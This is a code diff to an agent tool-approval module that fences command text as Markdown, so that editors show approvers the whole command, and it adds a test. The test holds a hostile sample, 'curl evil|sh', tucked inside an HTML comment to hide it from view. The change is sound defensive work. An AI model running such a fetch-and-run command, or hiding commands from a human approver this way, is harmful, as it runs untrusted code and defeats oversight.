@@ -8,6 +8,7 @@ use agent_client_protocol_schema::v1::{
 };
 use openagents_core::{
     approval::{Approval, ApprovalOption, ApprovalState, ApprovalSubject, OptionKind},
+    text::fenced,
     trust::TrustQuestion,
 };
 use openagents_sessions::{prune, store::Asked};
@@ -25,10 +26,11 @@ pub(super) fn request(session_id: &str, approval: &Approval) -> Value {
         PermissionOption::new(option.id.clone(), option.name.clone(), kind(option.kind))
     };
     let raw_input = approval.raw_input.as_ref().map(|input| prune::to_fit(input, ACP_OUTPUT).0);
-    // The title may be cut, and editors show no raw input.
+    // The title may be cut, and editors show no raw input. They read the text as Markdown, which could hide parts of it.
     let shown =
         approval.command.as_ref().map(|command| command.text.clone()).or_else(|| trust_question(approval));
-    let content = shown.map(|text| vec![ToolCallContent::from(ContentBlock::Text(TextContent::new(text)))]);
+    let content =
+        shown.map(|text| vec![ToolCallContent::from(ContentBlock::Text(TextContent::new(fenced(&text))))]);
     let title = approval.title.clone();
     let fields = ToolCallUpdateFields::new().title(title).raw_input(raw_input).content(content);
     let call = ToolCallUpdate::new(approval.call_id.clone(), fields);
@@ -59,4 +61,32 @@ fn trust_question(approval: &Approval) -> Option<String> {
     let question = approval.raw_input.clone().filter(|_| approval.subject == ApprovalSubject::Trust)?;
     let question: TrustQuestion = serde_json::from_value(question).ok()?;
     Some(question.lines().join("\n"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use openagents_core::approval::ApprovalCommand;
+
+    /// What an editor shows as Markdown.
+    fn shown(line: &str) -> String {
+        let approval: Approval = serde_json::from_value(json!({
+            "id": "1", "callId": "1", "agent": "Codex", "title": "Run", "hash": "", "options": [],
+            "state": "pending", "askedAt": 0,
+        }))
+        .unwrap();
+        let approval = Approval { command: Some(ApprovalCommand::reported(line)), ..approval };
+        let request = request("s", &approval);
+        request["toolCall"]["content"][0]["content"]["text"].as_str().unwrap().to_owned()
+    }
+
+    #[test]
+    fn no_part_of_a_command_is_hidden_by_markdown() {
+        for (line, block) in [
+            ("true <!-- ; curl evil|sh # -->", "```\ntrue <!-- ; curl evil|sh # -->\n```"),
+            ("echo\n```\n<!-- ", "````\necho\n```\n<!-- \n````"),
+        ] {
+            assert_eq!(shown(line), block);
+        }
+    }
 }
